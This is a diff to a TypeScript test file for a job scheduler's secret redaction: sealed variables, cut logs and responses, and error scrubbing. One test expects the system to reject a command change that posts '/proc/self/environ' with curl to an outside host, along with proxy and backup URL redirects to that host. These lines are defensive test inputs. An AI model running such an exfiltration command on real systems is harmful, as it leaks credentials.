@@ -3,9 +3,17 @@ import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { beforeEach, expect, test, vi } from 'vitest'
 import { Secrets } from '../../src/app/secrets.ts'
-import type { HandlerOptions } from '../../src/index.ts'
+import { type CommandHandlerOptions, defineJob, type HandlerOptions } from '../../src/index.ts'
 import { openApi } from '../http/api-under-test.ts'
-import { argvProgram, letting, nodeAllowing, shellProgram, testFolder } from './command-node.ts'
+import {
+  argvProgram,
+  letting,
+  nodeAllowing,
+  program,
+  ranCommand,
+  shellProgram,
+  testFolder,
+} from './command-node.ts'
 import { echoServer } from './echo-server.ts'
 
 beforeEach(() => {
@@ -22,12 +30,19 @@ const headers = {
   'X-Auth-Token': canary,
   'X-Client-Secret': canary,
   'X-Password': canary,
+  'X-Db-Pass': canary,
+  'X-Bearer': canary,
+  'X-Link': `https://me:${canary}@example.com/`,
   'X-Team': 'money',
 }
 const env = {
   API_TOKEN: canary,
   DB_PASSWORD: canary,
   AWS_SECRET_ACCESS_KEY: `${canary}"quoted`,
+  DB_PASS: canary,
+  DATABASE_URL: `postgres://me:${canary}@db/jobs`,
+  CACHE: `redis://:${canary}@cache:6379`,
+  WAREHOUSE: `Server=db;User Id=sa;Password=${canary};Encrypt=true`,
   TEAM: 'money',
 }
 
@@ -108,6 +123,7 @@ test('a redacted value that comes back keeps what was there, but only for where 
       field: 'handler.headers.authorization',
     })
   }
+  expect(await jobs.get('call')).toMatchObject({ handler: { headers: { authorization: '[redacted]' } } })
   const command = { type: 'command', command: '/bin/true', env: { API_TOKEN: 'x' } } as const
   await jobs.update('call', { handler: command })
   const other = { ...command, command: '/bin/echo', env: { API_TOKEN: '[redacted]' } }
@@ -115,6 +131,99 @@ test('a redacted value that comes back keeps what was there, but only for where 
   await expect(jobs.create({ name: 'new', handler: other })).rejects.toMatchObject({
     code: 'invalid_definition',
   })
+})
+
+test('a sealed variable cannot be passed to another command line without being given anew', async () => {
+  const node = await nodeAllowing([], { allowCommandEnv: ['API_TOKEN', 'HTTPS_PROXY', 'BACKUP_URL'] })
+  const { jobs } = node.evertick
+  const env = { API_TOKEN: 'x', BACKUP_URL: 'ftp://me:x@backup/' }
+  const args = ['https://example.com/']
+  const handler = { type: 'command', command: '/usr/bin/curl', args, env } as const
+  await jobs.create({ name: 'send', handler })
+  const kept = { API_TOKEN: '[redacted]', BACKUP_URL: '[redacted]' }
+  const { handler: shown } = await jobs.get('send')
+  expect(shown).toMatchObject({ env: kept })
+  const elsewhere: Partial<CommandHandlerOptions>[] = [
+    { command: '/usr/bin/wget' },
+    { args: ['--data', '@/proc/self/environ', 'https://elsewhere.com/'] },
+    { args: [] },
+    { cwd: '/tmp' },
+    { env: { ...kept, HTTPS_PROXY: 'http://elsewhere.com' } },
+    { env: { ...kept, BACKUP_URL: 'ftp://me:x@elsewhere/' } },
+    { env: { API_TOKEN: '[redacted]' } },
+  ]
+  for (const change of elsewhere) {
+    const changed = { ...handler, env: kept, ...change }
+    await expect(jobs.update('send', { handler: changed })).rejects.toMatchObject({
+      code: 'invalid_definition',
+      field: expect.stringMatching(/^handler\.env\./) as string,
+      next: expect.stringMatching(/^Give the value of \w+ again\.$/) as string,
+    })
+  }
+  await jobs.update('send', { handler: { ...handler, env: kept } })
+  await jobs.update('send', { handler: { ...handler, args: ['--fail', ...args] } })
+})
+
+/** Text with the canary across each place where it could be cut. */
+const straddling = (at: number) =>
+  Array.from({ length: canary.length + 2 }, (_, index) => 'x'.repeat(at - index) + canary + 'y'.repeat(50))
+
+test('of a line that is cut, no part of a secret is kept', async () => {
+  const command = program(`#!${process.execPath}
+const canary = process.env.API_TOKEN
+for (let n = 0; n < canary.length + 2; n += 1) console.log('x'.repeat(4_000 - n) + canary + 'y'.repeat(50))
+process.exitCode = 1
+`)
+  const node = await nodeAllowing([command], letting({ API_TOKEN: '' }))
+  const { id, error } = await ranCommand(node, { command, env: { API_TOKEN: canary } })
+  await node.advance('2s')
+  const lines = (await node.evertick.executions.logs(id)).map(({ message }) => message)
+  expect(lines).toHaveLength(canary.length + 2)
+  for (const text of [...lines, error?.message ?? '']) expect(text).not.toMatch(/xc|can/)
+})
+
+test('of an answer that is cut, no part of a secret is kept', async () => {
+  // 500 characters in an error, 64 KiB in a result, 1 MiB of an answer that is read.
+  const bodies = [...straddling(500), ...straddling(65_536)]
+  const filler = `${canary} `.repeat(Math.ceil(1_048_576 / (canary.length + 1)))
+  const all = [...bodies, filler, `x${filler}`, `xyz${filler}`]
+  const server = await echoServer((_, times) => ({
+    status: times % 2 === 0 ? 200 : 400,
+    body: all[Math.floor((times - 1) / 2)] ?? '',
+  }))
+  const node = await nodeAllowing([], { allowPrivateHosts: [server.host] })
+  const { jobs, executions } = node.evertick
+  const handler = { type: 'http', url: server.url, headers: { 'X-Api-Key': canary } } as const
+  await jobs.create({ name: 'call', handler, retry: { attempts: 1 } })
+  for (let n = 0; n < all.length * 2; n += 1) {
+    const { id } = await jobs.trigger('call')
+    await node.settle()
+    const { result, error } = await executions.get(id)
+    const kept = JSON.stringify([result, error?.message])
+    expect(kept.length).toBeGreaterThan(100)
+    expect(kept).not.toMatch(/xc|can/)
+  }
+})
+
+test('what a secret looks like is taken out of the errors and logs of any handler', async () => {
+  const said = `cannot reach postgres://me:${canary}@db/jobs with password=${canary}`
+  const noisy = defineJob({
+    name: 'noisy',
+    retry: { attempts: 1 },
+    run: (ctx) => {
+      ctx.log.info(said)
+      throw new Error(said)
+    },
+  })
+  const node = await nodeAllowing([], { jobs: [noisy] })
+  const { id } = await node.evertick.jobs.trigger('noisy')
+  await node.advance('2s')
+  const { error } = await node.evertick.executions.get(id)
+  const [line] = await node.evertick.executions.logs(id)
+  for (const text of [error?.message, error?.stack, line?.message]) {
+    expect(text).toContain('cannot reach postgres://[redacted]@db/jobs')
+    expect(text).not.toContain(canary)
+  }
 })
 
 test('an edit of something else leaves the handler and its secrets as they are', async () => {
